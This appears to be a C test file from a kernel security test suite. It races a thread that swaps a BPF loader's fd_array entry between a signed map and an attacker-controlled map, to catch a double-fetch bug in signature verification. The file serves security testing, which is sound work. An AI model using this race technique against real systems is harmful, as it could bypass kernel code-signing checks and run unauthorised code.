// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/*
 * Race attacks - fd_array of the load of the loader itself, changed while the kernel reads it
 *
 * One of the two maps has the signed metadata, the other has the attacker's. The kernel that reads
 * a number twice would verify the one and bind the other.
 */
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include "race.h"

static struct load load;
static int maps[2];

/**
 * array_toggle() - put one and the other map into fd_array
 * @r: the round
 */
void array_toggle(struct race *r)
{
	volatile int *word = load.fd_array;

	while (!r->set)
		race_step(r);
	while (r->running) {
		*word = maps[1];
		race_spin(rand() % 500);
		race_step(r);
		*word = maps[0];
		race_spin(rand() % 500);
		race_step(r);
	}
}

static int make_map(const struct load *template, uint32_t value)
{
	struct load l = *template;
	uint32_t *word;
	int fd;

	l.data = malloc(l.data_sz);
	memcpy(l.data, template->data, l.data_sz);
	word = metadata_find(l.data, l.data_sz, ANSWER, RODATA_MARK);
	if (word)
		*word = value;
	fd = load_make_map(&l);
	free(l.data);
	return race_high(fd);
}

/**
 * array_run() - load the loader once more, and run what got loaded
 * @r: the round
 *
 * Return: 0, or the negative errno of the load or of the run.
 */
int array_run(struct race *r)
{
	int fd, err;

	load = r->victim->load;
	load.sig_ptr = load.sig;
	maps[0] = make_map(&load, ANSWER);
	maps[1] = make_map(&load, EVIL);
	load.fd_array[0] = maps[0];
	load.fd_array_cnt = 1;
	load.data_sz = 0;
	r->set = 1;
	fd = load_quiet(&load);
	err = fd < 0 ? fd : victim_run(fd, &r->ctx);
	if (fd >= 0)
		close(fd);
	close(maps[0]);
	close(maps[1]);
	return err;
}
